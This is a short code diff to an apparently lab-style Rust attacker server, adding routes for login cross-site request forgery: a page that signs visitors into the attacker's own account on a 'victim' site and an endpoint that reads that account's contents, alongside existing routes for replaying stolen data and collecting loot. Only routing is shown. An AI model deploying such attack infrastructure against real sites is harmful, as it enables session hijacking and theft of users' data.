@@ -10,6 +10,8 @@
 //! GET  /campaigns/{campaign}       the inbox, for a person; with Accept: application/json for a machine
 //! POST /campaigns/{campaign}/replays   sends what was stolen to the victim's server, and notes what came back
 //! GET  /campaigns/{campaign}/csrf      a page that makes its visitor's browser send requests to the victim's server
+//! GET  /campaigns/{campaign}/login-csrf   a page that signs its visitor in to the attacker's own account there
+//! POST /campaigns/{campaign}/notes     signs the attacker in from here, and reads what his account holds
 //! ```
 
 mod campaign;
@@ -90,6 +92,9 @@ pub fn router(attacker: Arc<Attacker>) -> Router {
         .route("/campaigns/{campaign}/replays", post(replay::replay))
         .route("/campaigns/{campaign}/csrf", get(cross_site::csrf))
         .route("/csrf.js", get(cross_site::csrf_script))
+        .route("/campaigns/{campaign}/login-csrf", get(cross_site::login_csrf))
+        .route("/campaigns/{campaign}/notes", post(cross_site::read_notes))
+        .route("/login_csrf.js", get(cross_site::login_csrf_script))
         .route("/collect/{campaign}", get(collect::collect_from_image).post(collect::collect))
         .fallback(house_rules::not_found)
         .layer(DefaultBodyLimit::max(LARGEST_LOOT))
